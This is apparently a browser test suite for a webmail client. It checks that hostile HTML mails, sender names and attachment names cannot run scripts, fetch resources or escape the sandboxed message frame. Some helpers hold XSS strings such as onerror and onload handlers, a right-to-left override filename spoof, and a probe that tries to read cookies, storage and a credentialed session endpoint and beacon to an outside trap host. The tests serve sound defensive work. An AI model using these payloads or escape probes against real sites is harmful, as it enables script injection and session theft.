"""Hostile mails, opened in the page: nothing runs, nothing is fetched, nothing leaves."""

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Frame, expect

from tests.browser.conftest import Visiting
from tests.browser.elsewhere import Elsewhere, elsewhere
from tests.browser.hostile_html import PAYLOADS
from tests.browser.mails import headed, html_mail, mail
from tests.browser.visits import NEEDS_CHROMIUM, Visit, told

pytestmark = NEEDS_CHROMIUM
SWALLOWERS = {
    *("script that is not closed", "image error, attribute unclosed"),
    *("embed", "svg style", "math table"),
}
"""What follows them in a mail goes with them, so that each has a mail of its own."""
EVENTS = "animationstart error focus load mouseenter mouseover pointerenter pointerover toggle"
TRY_HANDLERS = """events => {
  for (const each of document.querySelectorAll('*'))
    for (const name of events.split(' ')) each.dispatchEvent(new Event(name));
}"""
# Each in a frame like that of the mail; the answer comes once all of them are shown.
SHOW_EACH = """(frame, mails) => Promise.all(mails.map(html => new Promise(shown => {
  const other = frame.cloneNode();
  addEventListener('message', ({ source, data }) => {
    if (source !== other.contentWindow) return;
    if (data.ready) other.contentWindow.postMessage({ html, paths: [] }, '*');
    if ('height' in data) shown();
  });
  document.body.append(other);
}))).then(all => all.length)"""
WAYS_OUT = """async trap => {
  const tries = {
    'parent': () => parent.document.title,
    'top': () => { top.location = trap },
    'cookies': () => document.cookie,
    'storage': () => localStorage.length,
    'fetch': () => fetch(trap),
    'page': () => fetch('/api/session', { credentials: 'include' }),
    'alert': () => { if (alert('x') === undefined) throw 0 },
    'worker': () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      Object.assign(worker, { onmessage: resolve, onerror: reject });
    }),
  };
  const open = [];
  navigator.sendBeacon(trap);
  for (const [name, attempt] of Object.entries(tries))
    try { await attempt(); open.push(name); } catch { }
  return open;
}"""


@pytest.fixture
def trap() -> Iterator[Elsewhere]:
    with elsewhere(b"ran = 1", "text/javascript") as trap:
        yield trap


def hostile(name: str, trap: Elsewhere) -> str:
    """The payload, which names itself when it fetches."""
    host = f"{trap.host}/{quote(name)}"
    js = f"import(`http://{host}/js`)"
    return PAYLOADS[name].format(js=js, trap=f"http://{host}", host=host, bare=f"//{host}")


def opened(visit: Visit, subject: str) -> Frame:
    """The frame of the message with this subject, once it shows the mail."""
    expect(visit.page.locator("h1.subject")).to_have_text(subject)
    frame = visit.page.locator("iframe.mail")
    expect(frame.content_frame.locator("body")).to_contain_text("before")
    found = frame.element_handle().content_frame()
    assert found is not None
    return found


def let_pass(visit: Visit) -> None:
    """Wait until a request that is allowed has come through: others would have, too."""
    visit.page.evaluate("fetch('/icon.svg', { cache: 'reload' }).then(answer => answer.text())")


def test_nothing_of_a_hostile_mail_runs_or_is_fetched(visiting: Visiting, trap: Elsewhere) -> None:
    visit = visiting()
    moves: list[str] = []
    visit.page.on("framenavigated", lambda frame: moves.append(frame.url))
    visit.open()
    together = [name for name in PAYLOADS if name not in SWALLOWERS]
    bodies = {f"all from {at}": together[at::5] for at in range(5)} | {
        name: [name] for name in SWALLOWERS
    }
    for subject, names in bodies.items():
        parts = [f"<div>before {hostile(name, trap)}<p>after {name}.</p></div>" for name in names]
        visit.receive(html_mail(subject, "".join(parts)))
    moves.clear()

    for subject, names in bodies.items():
        visit.read(subject)
        frame = opened(visit, subject)
        frame.evaluate(TRY_HANDLERS, EVENTS)
        text = frame.locator("body").inner_text()
        lost = [name for name in names if f"after {name}." not in text]
        assert lost == [] or subject in SWALLOWERS

    let_pass(visit)
    assert trap.asked == []
    page, frame_page = visit.laptop.http, visit.laptop.http.replace("127.0.0.1", "localhost")
    assert {move.split("#")[0] for move in moves} == {f"{page}/", f"{frame_page}/mail.html"}
    assert len(visit.context.pages) == 1


def test_html_that_nobody_made_safe_runs_nothing_in_the_frame(
    visit: Visit, trap: Elsewhere
) -> None:
    visit.witness.expect(
        "Content Security Policy|sandbox|Not allowed|autofocus|Unsafe attempt|ERR_"
    )
    visit.receive(html_mail("Harmless", "<p>before</p>"))
    visit.read("Harmless")
    opened(visit, "Harmless")
    unsafe = [hostile(name, trap) for name in PAYLOADS]

    frames = visit.page.locator("iframe.mail").evaluate(SHOW_EACH, unsafe)
    for frame in visit.page.frames[1:]:
        frame.evaluate(TRY_HANDLERS, EVENTS)

    let_pass(visit)
    assert frames == len(PAYLOADS)
    assert trap.asked == []
    visit.witness.strangers.clear()  # what was blocked on its way out; the trap says so


def test_a_script_in_the_frame_would_find_no_way_out(visit: Visit, trap: Elsewhere) -> None:
    visit.witness.expect("Content Security Policy|sandbox|Unsafe attempt|ERR_BLOCKED_BY_CSP")
    visit.receive(html_mail("Harmless", "<p>before</p>"))
    visit.read("Harmless")
    frame = opened(visit, "Harmless")

    open_ways = frame.evaluate(WAYS_OUT, f"http://{trap.host}/")

    let_pass(visit)
    assert frame.evaluate("origin") == "null"
    assert open_ways == []
    assert trap.asked == []
    visit.witness.strangers.clear()
    assert visit.page.url.startswith(visit.laptop.http)


HEADERS: dict[str, dict[str, Any]] = {
    "markup": {"subject": "<img src=x onerror=alert(1)>", "sender": '"<svg/onload=a>" <a@b.ex>'},
    "text that runs backwards": {"subject": "exe.\u202ecod.gpj", "sender": "\u202enn <a@b.ex>"},
    "long": {"subject": "wide" * 1250, "sender": f"{'wide' * 1250} <a@b.ex>"},
    "quotes": {"subject": "\"'`>{}${1}", "sender": "O'Neill & Söhne <a@b.ex>"},
    "file": {"subject": "a file", "files": {"<img src=x onerror=alert(1)>\u202efdp.exe": b"x"}},
    "long file": {"subject": "a long file", "files": {f"{'name' * 100}.txt": b"x"}},
}


@pytest.mark.parametrize("name", HEADERS)
def test_what_a_sender_names_things_stays_text(visit: Visit, name: str) -> None:
    visit.receive(mail(**HEADERS[name]))
    visit.lines.first.click()
    title = visit.page.locator("h1.subject")
    expect(title).to_contain_text(HEADERS[name]["subject"][:200])

    for place in ("#messages", "#reader"):
        assert visit.page.locator(place).locator("img, svg[onload], script").count() == 0
        assert visit.page.locator(place).evaluate("each => each.scrollWidth <= each.clientWidth")
    assert visit.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        headed(b"Subject:", b"From:"),
        headed(b"Subject: \x00\xff\xfe", b"From: \xff\xff@\xff"),
        headed(b"From: =?utf-8?b?!!!!?=", b"Subject: =?x-none?q?=41?="),
        headed(b"Content-Type: multipart/mixed; boundary=x", b"MIME-Version: 1.0"),
    ],
    ids=["nothing", "empty headers", "no characters", "broken words", "no parts"],
)
def test_a_mail_that_is_hardly_one_can_be_read_and_deleted(visit: Visit, raw: bytes) -> None:
    visit.receive(raw)
    visit.lines.first.click()
    expect(visit.page.locator("article h1.subject")).not_to_be_empty()

    visit.page.keyboard.press("d")

    told(visit.page, "Message deleted")
    expect(visit.lines).to_have_count(0)
